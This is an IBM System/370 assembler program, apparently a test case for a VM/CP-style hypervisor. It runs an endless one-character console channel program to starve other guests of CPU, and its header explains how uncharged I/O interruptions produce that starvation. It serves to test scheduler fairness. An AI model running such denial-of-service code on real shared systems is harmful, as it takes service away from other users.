***********************************************************************
*  CONSHORT: a console channel program that types one character at a *
*  time, for ever: WRITE (X'01', no carrier return) of one byte with  *
*  command chaining, a NO-OP, TIC back to the WRITE.                  *
*                                                                     *
*  The attack (on the CPU share).  CP runs console programs itself:   *
*  each WRITE queues a line for the real terminal; when the queue is  *
*  nearly full the program waits (VCWRW), and each time the terminal  *
*  has typed a line its I/O interruption resumes the program          *
*  (IOHNDL, VCRESUME), which queues another.  A one-character line    *
*  types in about 110 microseconds - less than CP needs to handle     *
*  the interruption and queue the next - so there is always another   *
*  interruption from this terminal when CP is done.  None of that     *
*  time is charged to the guest (an I/O interruption works for no     *
*  machine), and the channel presents the lowest device address       *
*  first: CP handles this terminal and nothing else.                  *
*                                                                     *
*  A correct CP charges the console work to the guest and gives the   *
*  others their turn (or makes a console program wait for its slice  *
*  once it has used it): the victim answers within his bound.  Then   *
*  the program spins; it never ends.                                  *
***********************************************************************
         COPY  GUEST
CONSHORT START X'8000'
         BALR  R12,0
         USING *,R12
         HIO   X'009'              stop CMS's console read
         LA    R1,CCWS
         ST    R1,X'48'            the CAW: key 0, the WRITE
         SIO   X'009'
LOOP     BC    15,LOOP
         DS    0D
CCWS     CCW   X'01',CHAR,X'40',1  WRITE one character, chain
         CCW   X'03',0,X'40',1     NO-OP, chain (see TICWAIT)
         CCW   X'08',CCWS,0,1      TIC back to the WRITE
CHAR     DC    C'.'
         END
